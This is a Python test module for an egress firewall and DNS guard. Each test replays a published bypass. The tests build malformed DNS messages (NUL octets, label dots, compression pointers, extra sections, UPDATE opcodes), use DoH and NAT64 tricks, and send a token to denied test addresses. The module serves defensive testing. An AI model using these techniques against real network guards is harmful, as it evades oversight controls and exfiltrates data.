"""Ways out for names: a question that policy denies, asked of whom, over what and in what spelling ever, and what a name
that policy allows may open. Most are published bypasses of other guards; each says of which."""

import struct

from tests.attack import moves
from tests.attack.suite import BOTH_MODES, NO_FAMILY, RULES, attack
from tests.support import dnsclient
from tests.support.resolver import good
from tests.support.world import GOOGLE_V4, UPSTREAM_V4

QUERY, IQUERY, STATUS, NOTIFY, UPDATE, DSO = 0, 1, 2, 4, 5, 6
IN, CHAOS, HESIOD, NONE, ANY = 1, 3, 4, 254, 255
A, NULL, TXT, AAAA, OPT, TSIG, AXFR = 1, 10, 16, 28, 41, 250, 252
ODD = "198.51.100.53"  # an upstream that does as it is told


def wire_name(*labels):
    return b"".join(bytes([len(label)]) + label for label in labels) + b"\0"


def name_of(text):
    return wire_name(*(label.encode() for label in text.split(".") if label))


def message(name, rdtype=A, klass=IN, opcode=QUERY, flags=0x0100, counts=(1, 0, 0, 0), more=b""):
    """A message in hex, whose header may say what it likes. The id is no secret here."""
    head = struct.pack("!HHHHHH", 0x7e57, flags | opcode << 11, *counts)
    return (head + name + struct.pack("!HH", rdtype, klass) + more).hex()


def ask(scene, *wires, server=GOOGLE_V4, tcp=(False,)):
    """The application sends these messages, and waits for the answers of a sidecar."""
    for wire in wires:
        for way in tcp:
            scene.run(moves.exchange, server, wire, way, 53, 0.01 if scene.control else 0.3)
    return scene.left()


def denied_name(scene, *, spell=str):
    return name_of(spell(f"t{scene.token}.denied.test"))


# --- whom, and over what ---

@attack(modes=BOTH_MODES)
def question_to_any_server(scene):
    """Port 53 was open to every server (github/gh-aw-firewall#9)."""
    scene.guard()
    for server in scene.google, scene.foreign, scene.denied, scene.gateway:
        ask(scene, message(denied_name(scene)), server=server)
    return scene.left()


@attack(modes=BOTH_MODES)
def question_over_tcp(scene):
    """TCP was not looked at (harden-runner, GHSA-g699-3x6g-wm3g)."""
    scene.resolver(scene.google, good)
    scene.guard()
    return ask(scene, message(denied_name(scene)), server=scene.google, tcp=(True,))


@attack(modes=BOTH_MODES)
def question_through_a_device(scene):
    """A socket that is bound to one, which takes no capability."""
    scene.guard()
    scene.run(moves.exchange, scene.google, message(denied_name(scene)), False, 53, 0.3, "eth0")
    return scene.left()


@attack(families=(4,), modes=BOTH_MODES)
def question_to_a_mapped_address(scene):
    scene.guard()
    return ask(scene, message(denied_name(scene)), server=f"::ffff:{GOOGLE_V4}")


@attack(modes=BOTH_MODES)
def data_to_port_53(scene):
    """No question at all: the first octets of something else."""
    scene.guard()
    scene.run(moves.send, scene.google, 53, scene.token)
    scene.run(moves.send_connected, scene.google, 53, scene.token)
    return scene.left()


@attack(families=NO_FAMILY, modes=BOTH_MODES)
def questions_in_one_stream(scene):
    """An empty frame, an allowed question, the denied one, and one in two pieces."""
    scene.resolver(GOOGLE_V4, good)
    scene.guard()
    wires = ["", message(name_of("www.allowed.test")), message(denied_name(scene))]
    scene.run(moves.stream, GOOGLE_V4, *wires)
    return scene.left()


# --- in what form ---

@attack(families=NO_FAMILY, modes=BOTH_MODES)
def name_with_a_nul_octet(scene):
    """A comparison of C strings ends at it (the Claude Code sandbox, in a SOCKS5 host name; there is no SOCKS here, but a
    label may hold any octet)."""
    scene.guard(RULES={"egress": [{"action": "allow", "target": "www.allowed.test"}, *RULES["egress"][1:]]})
    token = scene.token.encode()
    return ask(scene, *[message(wire_name(*labels)) for labels in (
        (b"www.allowed.test\0" + token, b"denied", b"test"), (b"www\0" + token, b"allowed", b"test"),
        (b"www", b"allowed", b"test\0" + token), (b"www", b"allowed", b"test", b"\0" + token))])


@attack(families=NO_FAMILY, modes=BOTH_MODES)
def name_with_a_dot_in_a_label(scene):
    """As text it looks like a name below an allowed one."""
    scene.guard()
    token = scene.token.encode()
    return ask(scene, *[message(wire_name(*labels)) for labels in (
        (token + b".allowed.test",), (token, b"www.allowed.test"), (token, b"allowed.test"), (token + b"\\", b"allowed.test"),
        (token, b"[www.allowed.test]"))])


@attack(families=NO_FAMILY, modes=BOTH_MODES)
def name_in_capitals(scene):
    """Default allow, and a rule that denies the name: names are compared without case (RFC 4343)."""
    scene.guard(RULES={"defaultAction": "allow", "egress": [{"action": "deny", "target": "*.denied.test"}]})
    return ask(scene, *[message(denied_name(scene, spell=spell)) for spell in (str, str.upper, str.swapcase, str.title)])


@attack(families=NO_FAMILY, modes=BOTH_MODES)
def name_beside_a_rule_with_a_trailing_dot(scene):
    """And one in capitals: they name the same."""
    scene.guard(RULES={"defaultAction": "allow", "egress": [{"action": "deny", "target": "*.DENIED.Test."}]})
    return ask(scene, message(denied_name(scene)), message(denied_name(scene, spell=str.upper)))


@attack(families=NO_FAMILY, modes=BOTH_MODES)
def name_behind_a_pointer(scene):
    """The name that is read by the guard is not the one that the resolver reads."""
    scene.guard()
    token = scene.token.encode()
    tail = b"\x03www\x07allowed\x04test\0"
    pointed = struct.pack("!B", len(token)) + token + b"\xc0"
    return ask(scene, *[message(pointed + bytes([at]), more=tail) for at in (12 + len(token) + 7, 12, 4)],
               message(b"\x41" + token + b"\0"), message(b"\x80" + token + b"\0"))


@attack(families=NO_FAMILY, modes=BOTH_MODES)
def second_question(scene):
    """The first is allowed."""
    scene.guard()
    first, second = name_of("www.allowed.test"), denied_name(scene)
    pair = struct.pack("!HH", A, IN) + second
    return ask(scene, message(first + pair, counts=(2, 0, 0, 0)), message(first + pair, counts=(1, 0, 0, 0)))


@attack(families=NO_FAMILY, modes=BOTH_MODES)
def data_beside_an_allowed_question(scene):
    """In other sections, as a signature, behind the end."""
    scene.guard()
    name, token = name_of("www.allowed.test"), scene.token.encode()

    def record(rdtype, owner=b"\xc0\x0c"):
        return owner + struct.pack("!HHIH", rdtype, IN, 0, len(token)) + token
    sections = [(1, 1, 0, 0), (1, 0, 1, 0), (1, 0, 0, 1)]
    return ask(scene, *[message(name, counts=counts, more=record(rdtype)) for counts in sections
                        for rdtype in (A, TXT, TSIG)],
               message(name, more=token), message(name, counts=(1, 0, 0, 2), more=record(OPT, b"\0") * 2))


@attack(families=NO_FAMILY, modes=BOTH_MODES)
def other_operations_and_classes(scene):
    """UPDATE, NOTIFY and the like for a denied name, and classes in which no rule is written; answers, too."""
    scene.guard()
    name = denied_name(scene)
    return ask(scene, *[message(name, opcode=opcode) for opcode in (IQUERY, STATUS, 3, NOTIFY, UPDATE, DSO, 15)],
               *[message(name, klass=klass) for klass in (0, 2, CHAOS, HESIOD, NONE, ANY, 0x8001)],
               message(name, flags=0x8180), message(name, flags=0x0240))


@attack(families=NO_FAMILY, modes=BOTH_MODES)
def other_operations_with_an_allowed_name(scene):
    """What an UPDATE or a transfer carries is no question."""
    scene.guard()
    name, token = name_of("www.allowed.test"), scene.token.encode()
    record = b"\xc0\x0c" + struct.pack("!HHIH", TXT, IN, 60, len(token) + 1) + bytes([len(token)]) + token
    return ask(scene, *[message(name, opcode=opcode, counts=(1, 0, 1, 0), more=record) for opcode in (NOTIFY, UPDATE)])


@attack(families=NO_FAMILY, modes=BOTH_MODES)
def empty_allow_list(scene):
    """It meant everything (srt, CVE-2025-66479). Whatever says nothing allows nothing."""
    left = False
    for rules in "", "{}", {"egress": []}, {"egress": None}, {"defaultAction": "", "egress": []}, "null":
        scene.guard(RULES=rules)
        for server in UPSTREAM_V4, GOOGLE_V4:
            scene.run(moves.exchange, server, message(denied_name(scene)), False, 53, 0.05)
        if scene.mode != "dns":  # without a rule for the sentinel nothing tells that all was seen: a refusal does
            scene.run(moves.send, scene.denied, 7777, scene.token)
        scene.guard()
        left = left or bool(scene.left())
    return left


# --- what a name opens ---

@attack()
def address_of_the_applications_choice(scene):
    """A rule for a name let every address pass with it (superradcompany/microsandbox#1361): who writes /etc/hosts, or
    any name into his first message, chooses the address."""
    scene.guard()
    if not scene.control:
        assert dnsclient.addresses(scene.ask("www.allowed.test"))
    scene.run(moves.talk, scene.denied, 80, "GET / HTTP/1.1\r\nHost: www.allowed.test\r\n\r\n")
    return scene.left()


def _leads_to(address):
    """A resolver for whose names this is the address, and of the other family there is none."""
    rdtype, kind = (AAAA, "AAAA") if ":" in address else (A, "A")

    def behave(request):
        wanted = request.message.question[0].rdtype == rdtype
        request.reply(request.answer(*[f"{request.name} 60 {kind} {address}"] * wanted))
    return behave


@attack()
def name_that_leads_to_a_denied_address(scene):
    """The address was not compared once more (Deno, GHSA-cpgj-f7g3-2pp2)."""
    scene.resolver(ODD, _leads_to(scene.denied))
    network = "2001:db8:66::/64" if scene.v6 else "198.19.0.0/16"
    scene.guard(fresh=True, DNS_UPSTREAM=ODD,
                RULES={"egress": [*RULES["egress"], {"action": "deny", "target": network}]})
    if not scene.control:
        scene.ask("www.allowed.test", "AAAA" if scene.v6 else "A")
    scene.run(moves.send, scene.denied, 7777, scene.token)
    scene.run(moves.connect, scene.denied, 80)
    return scene.left()


@attack(families=(4,))
def name_that_leads_to_a_denied_address_inside_another(scene):
    """NAT64, 6to4, mapped: a gateway takes the IPv4 address out of them."""
    packed = "".join(f"{int(part):02x}" for part in scene.denied.split("."))
    embedded = f"64:ff9b::{packed[:4]}:{packed[4:]}"
    scene.resolver(ODD, _leads_to(embedded))
    scene.guard(fresh=True, DNS_UPSTREAM=ODD,
                RULES={"egress": [*RULES["egress"], {"action": "deny", "target": "198.19.0.0/16"}]})
    if not scene.control:
        scene.ask("www.allowed.test", "AAAA")
    scene.run(moves.send, embedded, 7777, scene.token)
    return scene.left()


@attack()
def narrow_allow_beside_a_wide_deny(scene):
    """The narrower one won (Cilium, GO-2024-3208); here a deny does, in whatever order."""
    wide = "2001:db8:66::/48" if scene.v6 else "198.18.0.0/15"
    pair = [{"action": "allow", "target": scene.denied}, {"action": "deny", "target": wide}]
    left = False
    for egress in pair, pair[::-1]:
        scene.guard(RULES={"egress": [*RULES["egress"], *egress]})
        scene.run(moves.send, scene.denied, 7777, scene.token)
        left = left or bool(scene.left())
    return left


@attack(modes=BOTH_MODES, families=NO_FAMILY)
def narrow_allow_beside_a_wide_deny_of_names(scene):
    """Of names the first rule decides, not the longest."""
    name = f"t{scene.token}.denied.test"
    pair = [{"action": "deny", "target": "*.denied.test"}, {"action": "allow", "target": name}]
    scene.guard(RULES={"egress": [*pair, *RULES["egress"]]})
    return ask(scene, message(name_of(name)))


@attack()
def brackets_around_a_denied_address(scene):
    """A rule that was not understood was no rule (smokescreen, GHSA-qwrf-gfpj-qvj6): one that is taken denies."""
    scene.guard(RULES={"defaultAction": "allow"})
    targets = [f"[{scene.denied}]", f"[{scene.denied}]:80", f"http://[{scene.denied}]/", f"http://{scene.denied}/"]
    for target in targets + [f"{scene.denied}:80"] * (not scene.v6):  # of IPv6 that is another address
        if not scene.control:
            rule = {"defaultAction": "allow", "egress": [{"action": "deny", "target": target}]}
            if scene.sidecar.request("POST", "/policy", rule).status != 200:
                continue  # told that it denies nothing
        scene.run(moves.send, scene.denied, 7777, scene.token)
    scene.guard()
    return scene.left()


@attack()
def doh_through_an_allowed_name(scene):
    """An allowed name whose server also answers DNS over HTTPS (harden-runner, GHSA-46g3-37rh-v698): with the switch,
    not even that. Without it the connection is allowed: test_not_defended.py."""
    scene.resolver(ODD, _leads_to(scene.google))
    scene.guard(fresh=True, DNS_UPSTREAM=ODD, BLOCK_DOH_443="on", DOH_BLOCKLIST=scene.google)
    if not scene.control:
        assert dnsclient.addresses(scene.ask("dns.allowed.test", "AAAA" if scene.v6 else "A"))
    scene.run(moves.connect, scene.google, 443)
    scene.run(moves.send, scene.google, 443, scene.token)
    return scene.left(scene.google)


# --- what nobody hears of ---

@attack()
def datagram_that_nobody_hears_of(scene):
    """sendto() without connect() was no event (harden-runner, GHSA-cpmj-h4f6-r6pq)."""
    scene.guard()
    scene.run(moves.send, scene.denied, 7777, scene.token)
    if scene.control:
        return scene.left()
    record = scene.sidecar.wait_event("denied", peer=scene.denied)
    return scene.left() or record["network.peer.port"] != 7777 or record["network.transport"] != "udp"


@attack(families=NO_FAMILY, modes=BOTH_MODES)
def question_that_nobody_hears_of(scene):
    """Over TCP, of a server that does not exist."""
    scene.resolver(GOOGLE_V4, good)
    scene.guard()
    ask(scene, message(denied_name(scene)), tcp=(True,))
    if scene.control:
        return scene.left()
    return not scene.sidecar.wait_event("denied", target_host=f"t{scene.token}.denied.test")
